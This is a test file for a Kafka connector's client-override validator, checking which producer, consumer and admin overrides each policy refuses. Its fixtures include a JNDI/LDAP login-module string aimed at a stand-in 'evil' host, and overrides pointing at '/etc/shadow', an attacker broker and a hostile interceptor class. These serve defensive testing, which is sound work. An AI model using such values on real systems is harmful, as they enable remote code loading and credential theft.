import { describe, expect, it } from 'vitest';
import { checkClientOverrides, isDangerousClientKey } from './client-overrides.js';

const JNDI = 'com.sun.security.auth.module.JndiLoginModule required user.provider.url="ldap://evil/x";';

describe('checkClientOverrides', () => {
  it('ignores keys that are not client overrides', () => {
    expect(checkClientOverrides({ 'sasl.jaas.config': JNDI, topics: 't' }, 'None')).toEqual([]);
  });

  it('by default allows tuning keys and refuses credentials, destinations and class names', () => {
    const errors = checkClientOverrides({
      'producer.override.linger.ms': '5',
      'consumer.override.max.poll.records': '10',
      'producer.override.sasl.jaas.config': 'x',
      'consumer.override.bootstrap.servers': 'evil:9092',
      'admin.override.security.protocol': 'PLAINTEXT',
      'producer.override.ssl.truststore.location': '/etc/shadow',
      'producer.override.interceptor.classes': 'com.evil.X',
    });
    expect(errors.map((e) => e.name).sort()).toEqual([
      'admin.override.security.protocol',
      'consumer.override.bootstrap.servers',
      'producer.override.interceptor.classes',
      'producer.override.sasl.jaas.config',
      'producer.override.ssl.truststore.location',
    ]);
    expect(errors.find((e) => e.name === 'consumer.override.bootstrap.servers')?.errors[0]).toBe(
      "The 'Allowlist' policy does not allow 'consumer.override.bootstrap.servers' to be overridden in the connector " +
        "configuration. It changes the client's credentials, destination or loaded code; only the All policy permits it.",
    );
  });

  it('refuses every override under None', () => {
    const errors = checkClientOverrides({ 'producer.override.linger.ms': '5' }, 'None');
    expect(errors).toEqual([
      {
        name: 'producer.override.linger.ms',
        errors: ["The 'None' policy does not allow 'producer.override.linger.ms' to be overridden in the connector configuration."],
      },
    ]);
  });

  it('allows only the identity keys under Principal', () => {
    const errors = checkClientOverrides(
      { 'producer.override.sasl.jaas.config': 'x', 'producer.override.sasl.mechanism': 'PLAIN', 'producer.override.acks': '1' },
      'Principal',
    );
    expect(errors.map((e) => e.name)).toEqual(['producer.override.acks']);
  });

  it('allows anything under All except network login modules', () => {
    expect(checkClientOverrides({ 'consumer.override.bootstrap.servers': 'x:1' }, 'All')).toEqual([]);
    const errors = checkClientOverrides({ 'producer.override.sasl.jaas.config': JNDI }, 'All');
    expect(errors[0]?.errors).toEqual([
      "'producer.override.sasl.jaas.config' names a JAAS login module that is not allowed (JNDI/LDAP login modules are blocked).",
    ]);
  });

  it('uses an operator allowlist, with wildcards that never reach dangerous keys', () => {
    const allowlist = ['acks', 'ssl.*', 'bootstrap.servers'];
    const errors = checkClientOverrides(
      {
        'producer.override.acks': 'all',
        'producer.override.ssl.endpoint.identification.algorithm': '',
        'producer.override.ssl.keystore.location': '/x',
        'producer.override.bootstrap.servers': 'named:9092',
        'producer.override.linger.ms': '1',
      },
      'Allowlist',
      allowlist,
    );
    expect(errors.map((e) => e.name).sort()).toEqual(['producer.override.linger.ms', 'producer.override.ssl.keystore.location']);
  });

  it('never echoes the refused value', () => {
    const errors = checkClientOverrides({ 'producer.override.sasl.jaas.config': 'password="p4ss"' });
    expect(JSON.stringify(errors)).not.toContain('p4ss');
  });
});

describe('isDangerousClientKey', () => {
  it.each(['sasl.jaas.config', 'sasl.oauthbearer.token.endpoint.url', 'ssl.keystore.location', 'bootstrap.servers', 'key.serializer.class'])(
    'flags %s',
    (key) => expect(isDangerousClientKey(key)).toBe(true),
  );
  it.each(['linger.ms', 'ssl.endpoint.identification.algorithm', 'acks'])('does not flag %s', (key) =>
    expect(isDangerousClientKey(key)).toBe(false),
  );
});
